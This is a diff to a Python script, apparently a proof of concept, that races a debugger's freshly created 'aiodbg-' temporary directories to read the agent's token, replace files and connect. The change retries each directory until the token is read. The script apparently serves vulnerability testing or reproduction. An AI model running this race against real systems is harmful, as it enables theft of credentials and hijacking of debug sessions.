@@ -14,7 +14,8 @@ import time
 stop = sys.argv[1]
 NAME = re.compile(r"^aiodbg-[A-Za-z0-9]{6}$")
 c = {"seen": 0, "replaced": 0, "read_token": 0, "connected": 0, "answered": 0, "errors": []}
-done = set()
+done = set()  # directories whose token was read: attacked no more
+tried = set()  # directories attacked at least once
 
 
 def attempt(what, fn):
@@ -64,8 +65,14 @@ while not os.path.exists(stop):
     except OSError:
         names = []
     for n in names:
-        done.add(n)
-        c["seen"] += 1
+        # The directory exists a moment before the debugger writes the agent's source
+        # (and its token) into it: attack again until the token was read.
+        if n not in tried:
+            tried.add(n)
+            c["seen"] += 1
+        before = c["read_token"]
         attack(n)
+        if c["read_token"] > before:
+            done.add(n)
     time.sleep(0.002)
 print(json.dumps(c), flush=True)
